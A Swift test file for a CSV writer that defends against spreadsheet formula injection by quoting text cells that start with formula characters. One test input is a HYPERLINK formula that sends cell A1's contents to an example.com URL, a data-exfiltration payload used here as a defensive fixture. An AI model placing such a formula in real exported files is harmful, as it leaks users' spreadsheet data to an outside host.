import GrantStore
import Testing

/// SpreadsheetCSV: the one writer of every CSV for people. A text cell a spreadsheet would run
/// as a formula gets a leading `'`; a number csdash computed goes out bare, a negative one too.
struct SpreadsheetCSVTests {
    @Test(arguments: ["=HYPERLINK(\"http://example.com/?q=\"&A1,\"x\")", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-1.00"])
    func aTextCellThatASpreadsheetWouldRunGetsALeadingQuote(_ text: String) {
        #expect(SpreadsheetCSV.written(.text(text)) == "'" + text)
    }

    @Test(arguments: ["Birmingham CC", "", "'quoted already", " =spaced", "2016/17", "1 = 1", "a@b.org"])
    func otherTextIsWrittenAsItIs(_ text: String) {
        #expect(SpreadsheetCSV.written(.text(text)) == text)
    }

    @Test(arguments: ["-1.00", "1873187.00", "0", "57", "-3"])
    func aNumberGoesOutBareSoThatItStaysANumber(_ number: String) {
        #expect(SpreadsheetCSV.written(.number(number)) == number)
    }

    /// Only what csdash writes for a number is one: anything else in a number cell is text.
    @Test(arguments: ["-1e5", "=1+1", "-", "-1.", "+1", "1,000", "-0x1F"])
    func aNumberCellThatIsNotANumberIsGuardedAsText(_ text: String) {
        #expect(SpreadsheetCSV.written(.number(text)) == SpreadsheetCSV.guarded(text))
        #expect(SpreadsheetCSV.written(.number(text)) != text || !SpreadsheetCSV.formulaStarts.contains(text.unicodeScalars.first!))
    }

    @Test func rowsAreWrittenAsRFC4180WithTheGuardInsideTheQuotes() {
        let text = SpreadsheetCSV.write([["name", "amount"], [.text("=A1,\"x\""), .number("-1.00")]])
        #expect(text == "name,amount\n\"'=A1,\"\"x\"\"\",-1.00\n")
    }
}
